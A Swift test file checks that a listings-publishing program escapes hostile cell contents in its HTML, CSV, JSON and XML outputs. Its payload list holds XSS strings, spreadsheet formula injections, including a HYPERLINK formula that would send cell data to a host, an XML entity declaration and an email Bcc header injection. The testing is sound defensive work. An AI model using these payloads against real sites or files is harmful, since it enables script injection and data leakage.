import Files
import Foundation
import TestSupport
import Testing

@Suite(.timeLimit(.minutes(5))) struct `A hostile cell` {
  private static let mark = "pwn4711"

  /// What breaks out of one or the other place, around the mark.
  private static let payloads = [
    "\"'><script>\(mark)()</script>", "<img src=x onerror=\(mark)()>", "</title><svg/\(mark)=1>",
    "</script><\(mark)>", "]]><\(mark)/>", "<!--<\(mark)>", "javascript:\(mark)()",
    "\" onmouseover=\"\(mark)()", "' \(mark)='", "&lt;\(mark)&gt;", "{{\(mark)}} ${\(mark)}",
    "=HYPERLINK(\"http://127.0.0.1:9/?\"&A1;\"\(mark)\")", "@\(mark)()", "+\(mark)", "-1+\(mark)",
    "＝\(mark)", "\t=\(mark)", "\u{2028}\(mark)\u{0}\u{1B}[2J",
    "<!DOCTYPE x [<!ENTITY \(mark) 'x'>]>",
    "x\r\nBcc: \(mark)@example.com",
  ]

  @Test func `of a listing stays text in every file that is published`() throws {
    let server = try LoopbackServer { _, _ in LoopbackServer.answer(200, "heard") }
    defer { server.stop() }
    let program = try Program()
    try Self.rule(of: program)
    try program.drop("listings/acme/homes.csv", Self.homes(link: server.url))
    let result = try program.run(["run", "--once", "--settle", "0.1"])
    let places = try program.places()["homes.csv"] ?? []
    #expect(places == ["done"] || places == ["hold"], "\(places) \(result.notes)")
    let files = try TreeListing.of(program.outbox)
    try expect(files, marked: [".html", ".csv", ".json", ".xml"])
    #expect(files.keys.contains { $0.contains("channels/meta") })
    #expect(server.connectionCount == 0, "an address in a cell was fetched")
  }

  @Test func `of any table stays text in every file that is published`() throws {
    let program = try Program()
    let head = "\"<b>\(Self.mark)\",\"=1+\(Self.mark)\",v\n"
    let rows = Self.payloads.map { "\(Self.quoted($0)),\(Self.quoted("x \($0)")),1\n" }.joined()
    try program.drop(Path("tabular/<\(Self.mark)>/\"><\(Self.mark)>.csv"), head + rows)
    #expect(try program.run(["run", "--once", "--settle", "0.1"]).code == 0)
    try expect(try TreeListing.of(program.outbox), marked: [".html", ".csv", ".json", ".jsonl"])
  }

  @Test func `of a log stays text in every file that is published`() throws {
    let program = try Program()
    let lines = Self.payloads.enumerated().map { number, payload in
      "2026-03-01 07:00:0\(number % 10),000 ERROR billing: \(payload.replacing("\n", with: " "))\n"
        + "Traceback (most recent call last):\n  File \"/srv/\(payload.prefix(9)).py\", line 1\n"
        + "\(Self.mark)Error: \(payload.filter { $0 != "\n" && $0 != "\r\n" })\n"
    }
    try program.drop("operations/acme/production/app.log", lines.joined())
    #expect(try program.run(["run", "--once", "--settle", "0.1"]).code == 0)
    try expect(try TreeListing.of(program.outbox), marked: [".html", ".json"])
  }

  // MARK: -

  /// - Parameter kinds: of files in which the mark must stand, so that something was looked at.
  private func expect(_ files: [String: [UInt8]], marked kinds: [String]) throws {
    let check = OutputCheck(mark: Self.mark)
    for (path, bytes) in files {
      #expect(!path.contains("<"), "\(path)")
      try check.check(path, bytes)
    }
    for kind in kinds {
      let isThere = files.contains { path, bytes in
        path.hasSuffix(kind) && bytes.firstRange(of: Array(Self.mark.utf8)) != nil
      }
      #expect(isThere, "no \(kind) holds the mark: \(files.keys.sorted())")
    }
  }

  private static func quoted(_ text: String) -> String {
    "\"\(text.replacing("\"", with: "\"\""))\""
  }

  /// All channels, so that all their files are made.
  private static func rule(of program: Program) throws {
    let rule = """
      rules:
        - name: homes
          match: {path: "listings/**"}
          worker: listings
          route: table
          options:
            currency: NGN
            country: NG
            site_name: "Acme <\(mark)>"
            site_address: "https://homes.example/"
            contact_name: "Ada <\(mark)>"
            contact_mail: ada@example.com
            contact_phone: "+2348031234567"

      """
    try FileWriter.write(Array(rule.utf8), to: program.root / "rules/05-homes.yaml")
  }

  /// Each payload in every column of text that a listing has.
  private static func homes(link: String) -> String {
    let columns = [
      "reference", "title", "description", "property type", "address", "estate", "city", "state",
      "features", "agent", "phone", "link", "photos", "colour of the door",
    ]
    let head = (columns + ["price", "beds", "area", "purpose"]).joined(separator: ",")
    let rows = payloads.enumerated().map { number, payload in
      let texts = columns.map { column in
        switch column {
        case "reference": "R\(number)\(payload)"
        case "link", "photos": number % 2 == 0 ? payload : "\(link)/\(mark)\(number).jpg"
        case "city": "Lagos"
        case "property type": number % 2 == 0 ? "house" : payload
        case "title": "\(payload) house \(number)"
        default: payload
        }
      }
      let price = 20_000_000 + number * 500_000
      let figures = ["\(price)", "\(2 + number % 3)", "\(90 + number)", "sale"]
      return (texts + figures).map(quoted).joined(separator: ",")
    }
    return ([head] + rows).joined(separator: "\n") + "\n"
  }
}
